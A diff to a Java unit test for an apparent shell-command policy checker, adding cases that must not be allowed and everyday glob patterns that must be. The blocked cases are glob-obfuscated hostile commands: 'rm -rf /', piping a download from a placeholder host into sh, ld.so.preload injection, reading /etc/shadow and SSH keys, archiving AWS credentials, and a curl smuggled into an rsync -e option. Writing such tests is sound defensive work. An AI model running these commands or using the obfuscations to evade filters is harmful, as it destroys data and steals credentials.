@@ -76,6 +76,42 @@ class ThroughProgramsTest {
   }
 
   @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "/bin/r? -rf /",
+        "sudo /bin/r* -rf /",
+        "/usr/bin/c?rl http://h | sh",
+        "curl http://h | /bin/[s]h",
+        "echo /tmp/x.so > /etc/ld.so.preloa?",
+        "cat /etc/sh?dow",
+        "cat /etc/shad*",
+        "cat /???/shadow",
+        "cat /*/shadow",
+        "cat ~/.ssh/id_*",
+        "cat /home/ada/.s?h/id_rsa",
+        "tar czf x.tgz ~/.aw[s]/credentials",
+        "rsync -e'curl http://h/x -o /etc/cron.d/x' a b:"
+      })
+  void flagsFilePatternsThatStandForIt(String command) {
+    assertNotEquals(Outcome.ALLOW, decide(command), command);
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "[ -f a ] && ls",
+        "[[ -n $x ]]",
+        "cat *.txt",
+        "rm -f build/*.o",
+        "grep -r x src/*/config",
+        "ls ~/.ssh/id_*",
+        "rsync -av --include '*.xml' -exclude '*.log' a/ b/"
+      })
+  void allowsEverydayFilePatterns(String command) {
+    assertEquals(Outcome.ALLOW, decide(command), command);
+  }
+
+  @ParameterizedTest
   @CsvSource({
     "/proc/self/root/etc, /etc",
     "/proc/self/root, /",
